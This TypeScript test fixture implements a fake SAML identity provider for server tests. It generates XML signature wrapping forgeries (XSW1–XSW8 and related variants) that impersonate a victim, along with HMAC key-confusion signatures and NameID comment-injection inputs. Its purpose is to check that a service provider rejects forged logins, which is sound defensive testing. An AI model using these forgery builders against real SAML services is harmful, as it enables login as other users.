import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/**
 * A SAML identity provider made of node:crypto and xml-crypto, for server tests that must send
 * what no conforming IdP would: forged, tampered, wrapped and replayed responses. Keys and
 * self-signed certificates are test fixtures (made once with openssl, valid for a century).
 */
const fixture = (name: string) => readFileSync(new URL(`./fixtures/saml/${name}`, import.meta.url), 'utf8');

export interface KeyPair {
  key: string;
  cert: string;
}
export const IDP_KEYS: KeyPair = { key: fixture('idp-key.pem'), cert: fixture('idp-cert.pem') };
export const ROLLOVER_KEYS: KeyPair = { key: fixture('rollover-key.pem'), cert: fixture('rollover-cert.pem') };
export const ATTACKER_KEYS: KeyPair = { key: fixture('attacker-key.pem'), cert: fixture('attacker-cert.pem') };

export const IDP_ENTITY_ID = 'https://idp.corp.example/saml';
export const IDP_SSO_URL = 'https://idp.corp.example/sso';

export function certBody(pem: string): string {
  return pem.replace(/-----[A-Z ]+-----/g, '').replace(/\s+/g, '');
}

/** IdP metadata as Okta, Entra ID or SimpleSAMLphp publish it. */
export function idpMetadata(options: { entityId?: string; certs?: string[]; ssoUrl?: string } = {}): string {
  const keys = (options.certs ?? [IDP_KEYS.cert])
    .map(
      (cert) =>
        `<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>${certBody(cert)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
    )
    .join('');
  return `<?xml version="1.0"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="${options.entityId ?? IDP_ENTITY_ID}">
  <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    ${keys}
    <md:KeyDescriptor use="encryption"><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>${certBody(ATTACKER_KEYS.cert)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${options.ssoUrl ?? IDP_SSO_URL}/post"/>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${options.ssoUrl ?? IDP_SSO_URL}"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>`;
}

/** The AuthnRequest inside an HTTP-Redirect address: its ID and what it says. */
export function readAuthnRequest(url: string): { id: string; xml: string; relayState: string | null } {
  const parsed = new URL(url);
  const encoded = parsed.searchParams.get('SAMLRequest') ?? '';
  const xml = inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8');
  const id = /\sID="([^"]+)"/.exec(xml)?.[1] ?? '';
  return { id, xml, relayState: parsed.searchParams.get('RelayState') };
}

export interface AssertionOptions {
  acsUrl: string;
  /** null: no AudienceRestriction at all. */
  audience: string | null;
  nameId: string;
  email?: string | null;
  givenName?: string;
  familyName?: string;
  inResponseTo?: string | null;
  now: number;
  issuer?: string;
  /** null: the confirmation names no Recipient. */
  recipient?: string | null;
  destination?: string | null;
  notBefore?: number;
  notOnOrAfter?: number;
  /** The bearer confirmation's own NotOnOrAfter (default: the conditions'); null leaves it out. */
  confirmationNotOnOrAfter?: number | null;
  assertionId?: string;
  responseId?: string;
  /** The Response's own InResponseTo when it should differ from the assertion's. */
  responseInResponseTo?: string;
  /** The top-level StatusCode (default Success). */
  status?: string;
  /** Raw XML put inside NameID instead of the escaped nameId (comment attacks). */
  rawNameId?: string;
  /** The NameID's Format (default persistent); null leaves the attribute out. */
  nameIdFormat?: string | null;
  /** The email attribute's Name (default `email`) and, when given, its FriendlyName. */
  emailAttribute?: { name: string; friendlyName?: string };
}

const iso = (ms: number) => new Date(ms).toISOString();
export const newId = () => `_${randomBytes(16).toString('hex')}`;

export function assertionXml(o: AssertionOptions): string {
  const id = o.assertionId ?? newId();
  const inResponseTo = o.inResponseTo === null || o.inResponseTo === undefined ? '' : ` InResponseTo="${o.inResponseTo}"`;
  const notBefore = o.notBefore ?? o.now - 30_000;
  const notOnOrAfter = o.notOnOrAfter ?? o.now + 5 * 60_000;
  const confirmUntil = o.confirmationNotOnOrAfter === undefined ? notOnOrAfter : o.confirmationNotOnOrAfter;
  const confirmationTimes = confirmUntil === null ? '' : ` NotOnOrAfter="${iso(confirmUntil)}"`;
  const recipient = o.recipient === null ? '' : ` Recipient="${o.recipient ?? o.acsUrl}"`;
  const audience = o.audience === null ? '' : `<saml:AudienceRestriction><saml:Audience>${o.audience}</saml:Audience></saml:AudienceRestriction>`;
  const format = o.nameIdFormat === undefined ? 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent' : o.nameIdFormat;
  const nameIdFormat = format === null ? '' : ` Format="${format}"`;
  const attributes: string[] = [];
  if (o.email !== null) attributes.push(attribute(o.emailAttribute?.name ?? 'email', o.email ?? o.nameId, o.emailAttribute?.friendlyName));
  if (o.givenName !== undefined) attributes.push(attribute('givenName', o.givenName));
  if (o.familyName !== undefined) attributes.push(attribute('sn', o.familyName));
  return (
    `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id}" Version="2.0" IssueInstant="${iso(o.now)}">` +
    `<saml:Issuer>${o.issuer ?? IDP_ENTITY_ID}</saml:Issuer>` +
    `<saml:Subject><saml:NameID${nameIdFormat}>${o.rawNameId ?? o.nameId}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData${confirmationTimes}${recipient}${inResponseTo}/></saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${iso(notBefore)}" NotOnOrAfter="${iso(notOnOrAfter)}">${audience}</saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${iso(o.now)}" SessionIndex="${newId()}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    (attributes.length === 0 ? '' : `<saml:AttributeStatement>${attributes.join('')}</saml:AttributeStatement>`) +
    `</saml:Assertion>`
  );
}

function attribute(name: string, value: string, friendlyName?: string): string {
  const friendly = friendlyName === undefined ? '' : ` FriendlyName="${friendlyName}"`;
  return `<saml:Attribute Name="${name}"${friendly}><saml:AttributeValue>${value}</saml:AttributeValue></saml:Attribute>`;
}

export function responseXml(o: AssertionOptions, inner: string): string {
  const answered = o.responseInResponseTo ?? o.inResponseTo;
  const inResponseTo = answered === null || answered === undefined ? '' : ` InResponseTo="${answered}"`;
  const destination = o.destination === null ? '' : ` Destination="${o.destination ?? o.acsUrl}"`;
  return (
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${o.responseId ?? newId()}" Version="2.0" IssueInstant="${iso(o.now)}"${destination}${inResponseTo}>` +
    `<saml:Issuer>${o.issuer ?? IDP_ENTITY_ID}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="${o.status ?? 'urn:oasis:names:tc:SAML:2.0:status:Success'}"/></samlp:Status>` +
    inner +
    `</samlp:Response>`
  );
}

export const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
export const RSA_SHA1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';
export const HMAC_SHA1 = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
export const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
export const SHA1 = 'http://www.w3.org/2000/09/xmldsig#sha1';

export interface SignOptions {
  /** A certificate to put in KeyInfo (an attacker's own, to see it is never trusted). */
  keyInfoCert?: string;
  /** The element (by ID) whose Issuer the signature follows; default the signed element. */
  placeIn?: string;
  signatureAlgorithm?: string;
  digestAlgorithm?: string;
  /** HMAC-SHA1 keyed with this text (the key-confusion attack: the IdP's public certificate as the secret). */
  hmacKey?: string;
  /** The Reference's URI as written (`""` for the whole document); default `#<elementId>`. */
  referenceUri?: string;
}

/**
 * Signs the element with this ID (enveloped, exclusive c14n, RSA-SHA256 unless told otherwise),
 * placing the signature right after that element's Issuer, as the schema wants.
 */
export function sign(xml: string, elementId: string, keys: KeyPair, options: SignOptions = {}): string {
  const signer = new SignedXml({
    privateKey: options.hmacKey ?? keys.key,
    publicCert: options.keyInfoCert ?? keys.cert,
    signatureAlgorithm: options.hmacKey === undefined ? (options.signatureAlgorithm ?? RSA_SHA256) : HMAC_SHA1,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  if (options.hmacKey !== undefined) signer.enableHMAC();
  signer.addReference({
    xpath: options.referenceUri === '' ? '/*' : `//*[@ID='${elementId}']`,
    digestAlgorithm: options.digestAlgorithm ?? SHA256,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    ...(options.referenceUri === '' ? { isEmptyUri: true } : {}),
  });
  const host = options.placeIn ?? elementId;
  signer.computeSignature(xml, { location: { reference: `//*[@ID='${host}']/*[local-name(.)='Issuer']`, action: 'after' } });
  return signer.getSignedXml();
}

export function idOf(xml: string, localName: 'Assertion' | 'Response'): string {
  const match = new RegExp(`<(?:saml|samlp):${localName}\\b[^>]*\\sID="([^"]+)"`).exec(xml);
  if (!match?.[1]) throw new Error(`no ${localName} ID`);
  return match[1];
}

/** A response as an honest IdP sends it: the assertion signed (and, with signResponse, the response too). */
export function signedResponse(o: AssertionOptions, options: { keys?: KeyPair; signResponse?: boolean } = {}): string {
  const keys = options.keys ?? IDP_KEYS;
  const assertion = assertionXml(o);
  const signedAssertion = sign(assertion, idOf(assertion, 'Assertion'), keys);
  const response = responseXml(o, signedAssertion);
  return options.signResponse === true ? sign(response, idOf(response, 'Response'), keys) : response;
}

export const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

const SAML_ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAML_PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function child(parent: Element, ns: string, localName: string): Element {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    const element = node as Element;
    if (node.nodeType === node.ELEMENT_NODE && element.namespaceURI === ns && element.localName === localName) return element;
  }
  throw new Error(`no ${localName} under ${parent.localName}`);
}

function setText(element: Element, text: string): void {
  while (element.firstChild !== null) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument.createTextNode(text));
}

/** Makes an assertion element (its own Subject and email attribute, not a nested one's) speak for someone else. */
function impersonate(assertion: Element, victim: { nameId: string; email: string }): void {
  setText(child(child(assertion, SAML_ASSERTION, 'Subject'), SAML_ASSERTION, 'NameID'), victim.nameId);
  const statement = child(assertion, SAML_ASSERTION, 'AttributeStatement');
  for (let node = statement.firstChild; node !== null; node = node.nextSibling) {
    const attribute = node as Element;
    if (node.nodeType === node.ELEMENT_NODE && attribute.getAttribute('Name') === 'email')
      setText(child(attribute, SAML_ASSERTION, 'AttributeValue'), victim.email);
  }
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(child(copy, DSIG, 'Signature'));
  return copy;
}

/**
 * XML signature wrapping, each variant built from a genuine response of the IdP (real
 * signatures, untouched), with a forged assertion for `victim` placed where a careless consumer
 * would read it:
 * - XSW1–XSW8 as Somorovsky et al. 2012 ("On Breaking SAML", figure 5) define them and SAML
 *   Raider applies them: XSW1 and XSW2 wrap a signed Response (the original kept inside the
 *   Signature, or before it as a detached signature); XSW3–XSW8 wrap a signed Assertion (the
 *   forged one before the original, around it, carrying the original's signature with the
 *   original after it or inside the Signature, the original in Extensions, in the Signature's
 *   Object without its signature);
 * - the published variants around them: the original in Advice or StatusDetail (both allow
 *   any content), the forged assertion in a made-up namespace, the forged assertion claiming the
 *   original's ID through a namespaced attribute, and the Response taking the original's ID.
 * Every variant keeps a signature that verifies over the element it references.
 */
export function wrappingAttacks(o: AssertionOptions, victim: { nameId: string; email: string }, keys: KeyPair = IDP_KEYS): Record<string, string> {
  const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc);
  /** A genuine response: assertion signed, and the response too for the response-level variants. */
  const genuine = (signResponse: boolean) => {
    const doc = parse(signedResponse({ ...o, assertionId: newId(), responseId: newId() }, { keys, signResponse }));
    const response = doc.documentElement as Element;
    return { doc, response, assertion: child(response, SAML_ASSERTION, 'Assertion') };
  };
  /** A copy of the original that names the victim: with a new ID, or (sameId) the original's. */
  const forgedCopy = (assertion: Element, keepSignature: boolean, sameId = false) => {
    const forged = (keepSignature ? assertion.cloneNode(true) : withoutSignature(assertion)) as Element;
    if (!sameId) forged.setAttribute('ID', newId());
    impersonate(forged, victim);
    return forged;
  };
  const attacks: Record<string, (g: ReturnType<typeof genuine>) => void> = {
    XSW1: ({ response }) => {
      const original = withoutSignature(response);
      child(response, DSIG, 'Signature').appendChild(original);
      response.setAttribute('ID', newId());
      impersonate(child(response, SAML_ASSERTION, 'Assertion'), victim);
    },
    XSW2: ({ response }) => {
      const original = withoutSignature(response);
      response.insertBefore(original, child(response, DSIG, 'Signature'));
      response.setAttribute('ID', newId());
      impersonate(child(response, SAML_ASSERTION, 'Assertion'), victim);
    },
    XSW3: ({ response, assertion }) => {
      response.insertBefore(forgedCopy(assertion, false), assertion);
    },
    XSW4: ({ response, assertion }) => {
      const forged = forgedCopy(assertion, false);
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    },
    XSW5: ({ response, assertion }) => {
      const forged = forgedCopy(assertion, true);
      response.replaceChild(forged, assertion);
      response.appendChild(withoutSignature(assertion));
    },
    XSW6: ({ response, assertion }) => {
      const forged = forgedCopy(assertion, true);
      response.replaceChild(forged, assertion);
      child(forged, DSIG, 'Signature').appendChild(withoutSignature(assertion));
    },
    XSW7: ({ doc, response, assertion }) => {
      const extensions = doc.createElementNS(SAML_PROTOCOL, 'samlp:Extensions');
      extensions.appendChild(forgedCopy(assertion, false, true));
      response.insertBefore(extensions, response.firstChild);
    },
    XSW8: ({ doc, response, assertion }) => {
      const forged = forgedCopy(assertion, true, true);
      response.replaceChild(forged, assertion);
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(withoutSignature(assertion));
      child(forged, DSIG, 'Signature').appendChild(object);
    },
    'original in the forged assertion’s Advice': ({ doc, response, assertion }) => {
      const forged = forgedCopy(assertion, false);
      const advice = doc.createElementNS(SAML_ASSERTION, 'saml:Advice');
      response.replaceChild(forged, assertion);
      advice.appendChild(assertion);
      forged.insertBefore(advice, child(forged, SAML_ASSERTION, 'Conditions').nextSibling);
    },
    'original in StatusDetail': ({ doc, response, assertion }) => {
      const detail = doc.createElementNS(SAML_PROTOCOL, 'samlp:StatusDetail');
      response.insertBefore(forgedCopy(assertion, false), assertion);
      detail.appendChild(assertion);
      child(response, SAML_PROTOCOL, 'Status').appendChild(detail);
    },
    'forged assertion in another namespace': ({ doc, response, assertion }) => {
      const forged = doc.createElementNS('urn:example:not-saml', 'x:Assertion');
      const copy = forgedCopy(assertion, false);
      while (copy.firstChild !== null) forged.appendChild(copy.firstChild);
      response.insertBefore(forged, assertion);
    },
    'forged assertion claiming the original’s ID in a namespaced attribute': ({ response, assertion }) => {
      const forged = forgedCopy(assertion, false);
      forged.removeAttribute('ID');
      forged.setAttributeNS('urn:example:ids', 'x:ID', assertion.getAttribute('ID') ?? '');
      response.insertBefore(forged, assertion);
    },
    'forged assertion beside the original, the Response taking the original’s ID': ({ response, assertion }) => {
      response.insertBefore(forgedCopy(assertion, false), assertion);
      response.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    },
  };
  return Object.fromEntries(
    Object.entries(attacks).map(([name, attack]) => {
      const g = genuine(name === 'XSW1' || name === 'XSW2');
      attack(g);
      return [name, serialize(g.doc)];
    }),
  );
}

/**
 * True when xml-crypto alone, given the IdP's certificate, accepts the signature inside the
 * element with this ID: the forged document is a real attack, not one a signature check refuses
 * by itself.
 */
export function signatureVerifies(xml: string, signedElementId: string, cert: string = IDP_KEYS.cert): boolean {
  const doc = parse(xml);
  const element = Array.from(doc.getElementsByTagName('*')).find((candidate) => candidate.getAttribute('ID') === signedElementId);
  if (element === undefined) return false;
  const verifier = new SignedXml({ publicCert: cert });
  verifier.loadSignature(child(element, DSIG, 'Signature'));
  try {
    return verifier.checkSignature(xml);
  } catch {
    return false;
  }
}
